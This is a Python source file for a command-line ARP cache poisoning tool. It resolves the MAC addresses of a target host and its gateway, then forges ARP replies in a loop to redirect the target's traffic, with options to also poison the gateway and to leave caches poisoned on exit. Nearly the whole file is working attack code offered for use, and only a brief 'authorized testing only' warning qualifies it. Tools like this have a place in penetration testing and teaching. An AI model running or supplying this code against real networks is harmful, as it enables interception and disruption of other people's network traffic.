"""
ARP Spoofer - Controlled ARP Poisoning Attack Module

Resolves the gateway and target MAC addresses, then keeps the target's ARP
cache poisoned until cancelled, and finally restores the true bindings.

WARNING: This tool is for authorized security testing only.
Unauthorized use is illegal and unethical.
"""

import argparse
import asyncio
import logging
import signal
import sys
from dataclasses import dataclass
from datetime import datetime
from typing import Dict, Optional

from colorama import Fore, Style, init as colorama_init

from attacks.address_resolver import AddressResolver
from attacks.frame_forger import FrameForger
from config.settings import ARPConfig, setup_logging
from core.capture_device import open_device
from core.events import (
    CYCLE_FAILED, FRAME_FORGED, REQUEST_SENT, REPLY_MATCHED, RESTORED,
    EventDispatcher, Notification
)
from core.exceptions import ARPSpoofError, ForgeryError, ResolutionCancelled
from core.network_utils import get_gateway, parse_network_address, select_interface

logger = logging.getLogger(__name__)

BANNER = r"""
   ___   ___  ___    ____                 ___
  / _ | / _ \/ _ \  / __/__  ___  ___  __/ _/
 / __ |/ , _/ ___/ _\ \/ _ \/ _ \/ _ \/_  _/
/_/ |_/_/|_/_/    /___/ .__/\___/\___/ /_/
                     /_/
"""


@dataclass
class SpoofStatistics:
    """Statistics for an ARP spoofing session"""
    frames_sent: int = 0
    successful_cycles: int = 0
    failed_cycles: int = 0
    start_time: Optional[datetime] = None
    end_time: Optional[datetime] = None

    def to_dict(self) -> Dict:
        """Convert statistics to dictionary"""
        duration = 0
        if self.start_time and self.end_time:
            duration = (self.end_time - self.start_time).total_seconds()
        elif self.start_time:
            duration = (datetime.now() - self.start_time).total_seconds()

        return {
            'frames_sent': self.frames_sent,
            'successful_cycles': self.successful_cycles,
            'failed_cycles': self.failed_cycles,
            'duration_seconds': duration,
            'frames_per_second': self.frames_sent / duration if duration > 0 else 0,
        }


class ARPSpoofer:
    """
    ARP poisoning session between one target and its gateway.

    run() resolves the gateway then the target (failures there are fatal),
    then forges replies every config.spoof_interval seconds until the
    cancellation event is set. A failed cycle is logged and the loop goes on.
    """

    def __init__(
        self,
        device,
        target_ip: str,
        gateway_ip: Optional[str] = None,
        config: Optional[ARPConfig] = None,
        events: Optional[EventDispatcher] = None
    ):
        """
        Initialize ARP Spoofer

        Args:
            device: Opened capture device
            target_ip: Target victim IP address
            gateway_ip: Gateway IP (auto-detected if None)
            config: Timing and behaviour settings
            events: Dispatcher receiving every notification
        """
        self.device = device
        self.config = config or ARPConfig()
        self.events = events or EventDispatcher()

        self.target_ip = parse_network_address(target_ip)
        gateway_ip = gateway_ip or get_gateway(device.name)
        if not gateway_ip:
            raise RuntimeError("Could not detect gateway")
        self.gateway_ip = parse_network_address(gateway_ip)

        self.target_mac = None
        self.gateway_mac = None

        self.resolver = AddressResolver(
            device,
            timeout=self.config.resolve_timeout,
            settle_delay=self.config.settle_delay,
            events=self.events
        )
        self.forger = FrameForger(device, bidirectional=self.config.bidirectional,
                                  events=self.events)
        self.statistics = SpoofStatistics()

    async def resolve_hosts(self, cancellation: asyncio.Event):
        """Resolve the gateway, then the target."""
        self.gateway_mac = await self.resolver.resolve(self.gateway_ip, cancellation)
        self.target_mac = await self.resolver.resolve(self.target_ip, cancellation)
        logger.info("Gateway %s is at %s, target %s is at %s",
                    self.gateway_ip, self.gateway_mac, self.target_ip, self.target_mac)

    def poison_once(self) -> bool:
        """
        Run one spoofing cycle

        Returns:
            True if both frames were sent
        """
        try:
            self.forger.spoof(self.target_ip, self.target_mac,
                              self.gateway_ip, self.gateway_mac)
            ok = True
        except ForgeryError as e:
            logger.warning("Spoof cycle failed: %s", e)
            self.statistics.failed_cycles += 1
            self.events.emit(CYCLE_FAILED, self.target_ip, detail=str(e))
            ok = False
        else:
            self.statistics.successful_cycles += 1
        self.statistics.frames_sent = self.forger.frames_sent
        return ok

    def restore(self):
        self.forger.restore(self.target_ip, self.target_mac,
                            self.gateway_ip, self.gateway_mac,
                            count=self.config.restore_count)

    async def run(self, cancellation: asyncio.Event):
        """
        Resolve both hosts and poison until cancellation is set.

        Raises:
            ResolutionError: If either host cannot be resolved.
        """
        await self.resolve_hosts(cancellation)

        self.statistics.start_time = datetime.now()
        logger.info("Poisoning %s every %.1fs", self.target_ip, self.config.spoof_interval)
        try:
            while not cancellation.is_set():
                self.poison_once()
                try:
                    await asyncio.wait_for(cancellation.wait(), self.config.spoof_interval)
                except asyncio.TimeoutError:
                    pass
        finally:
            self.statistics.end_time = datetime.now()
            if self.config.restore_on_exit and self.config.restore_count > 0:
                await asyncio.to_thread(self.restore)

    def get_statistics(self) -> Dict:
        """Get session statistics"""
        return self.statistics.to_dict()


# =============================================================================
# Command line
# =============================================================================

def render_notification(notification: Notification, quiet: bool = False):
    """Print a notification the way the console UI shows it."""
    ts = notification.timestamp.strftime("%Y-%m-%d %H:%M:%S")
    kind = notification.kind
    if kind == REQUEST_SENT:
        print(f"{Fore.YELLOW}[*] Resolving {notification.address} MAC Address...{Style.RESET_ALL}")
    elif kind == REPLY_MATCHED:
        print(f"{Fore.GREEN}[+] {notification.address} MAC Address: "
              f"{notification.hardware_address.formatted()}{Style.RESET_ALL}")
    elif kind == FRAME_FORGED:
        if not quiet:
            print(f"{Fore.GREEN}[{ts}] * Spoofed * {notification.address} -> "
                  f"{notification.hardware_address.formatted()} "
                  f"({notification.detail}){Style.RESET_ALL}")
    elif kind == RESTORED:
        print(f"{Fore.CYAN}[{ts}] Restored ARP tables: {notification.detail}{Style.RESET_ALL}")
    elif kind == CYCLE_FAILED:
        print(f"{Fore.RED}[{ts}] Spoof failed: {notification.detail}{Style.RESET_ALL}")


async def _run_until_interrupted(spoofer: ARPSpoofer):
    cancellation = asyncio.Event()
    loop = asyncio.get_running_loop()

    def cancel():
        if not cancellation.is_set():
            print("Stopping...")
        cancellation.set()

    try:
        loop.add_signal_handler(signal.SIGINT, cancel)
    except NotImplementedError:
        # Windows event loops have no signal handler support
        signal.signal(signal.SIGINT, lambda *_: loop.call_soon_threadsafe(cancel))

    await spoofer.run(cancellation)


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="arp-spoof",
        description="ARP cache poisoning between a target and its gateway",
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog="""
Examples:
  arp-spoof 192.168.1.100
  arp-spoof 192.168.1.100 -i eth0 -g 192.168.1.1 --bidirectional
  arp-spoof 192.168.1.100 --config spoof.yaml
        """
    )
    parser.add_argument("target", help="Target IP address")
    parser.add_argument("-i", "--interface", help="Network interface (menu if omitted)")
    parser.add_argument("-g", "--gateway", help="Gateway IP (auto-detect if not provided)")
    parser.add_argument("--interval", type=float, help="Seconds between spoofing cycles")
    parser.add_argument("--timeout", type=float, help="Seconds to wait for ARP replies")
    parser.add_argument("--bidirectional", action="store_true", default=None,
                        help="Also poison the gateway's ARP cache")
    parser.add_argument("--no-restore", action="store_true",
                        help="Leave ARP caches poisoned on exit")
    parser.add_argument("--config", help="YAML file with ARPConfig settings")
    parser.add_argument("-q", "--quiet", action="store_true",
                        help="Do not print every forged frame")
    parser.add_argument("-v", "--verbose", action="store_true", help="Debug logging")
    return parser


def main(argv=None):
    """Command line entry point"""
    args = build_parser().parse_args(argv)

    colorama_init()
    setup_logging("DEBUG" if args.verbose else "WARNING")
    print(f"{Style.DIM}{BANNER}{Style.RESET_ALL}")

    try:
        config = ARPConfig.from_yaml(args.config) if args.config else ARPConfig()
        if args.interval is not None:
            config.spoof_interval = args.interval
        if args.timeout is not None:
            config.resolve_timeout = args.timeout
        if args.bidirectional is not None:
            config.bidirectional = args.bidirectional
        if args.no_restore:
            config.restore_on_exit = False
        if not config.is_valid:
            raise ValueError(f"Invalid configuration: {config.to_dict()}")

        interface = args.interface or config.interface or select_interface().name

        events = EventDispatcher()
        events.register_callback('*', lambda n: render_notification(n, quiet=args.quiet))

        with open_device(interface) as device:
            spoofer = ARPSpoofer(device, args.target, args.gateway, config, events)
            print(f"{Fore.YELLOW}[*] Gateway: {spoofer.gateway_ip}{Style.RESET_ALL}")
            print("[+] ArpSpoof starting! press CTRL+C to cancel.")
            asyncio.run(_run_until_interrupted(spoofer))

        stats = spoofer.get_statistics()
        print(f"\n[*] Attack Statistics:")
        print(f"    Frames sent: {stats['frames_sent']}")
        print(f"    Cycles: {stats['successful_cycles']} ok, {stats['failed_cycles']} failed")
        print(f"    Duration: {stats['duration_seconds']:.2f} seconds")
    except ResolutionCancelled:
        print(f"\n{Fore.YELLOW}[!] Cancelled before poisoning started{Style.RESET_ALL}")
        sys.exit(130)
    except (ARPSpoofError, RuntimeError, ValueError, OSError) as e:
        print(f"{Fore.RED}{e}{Style.RESET_ALL}")
        sys.exit(1)
    except KeyboardInterrupt:
        print(f"\n{Fore.YELLOW}[!] Interrupted by user{Style.RESET_ALL}")
        sys.exit(130)


if __name__ == "__main__":
    main()
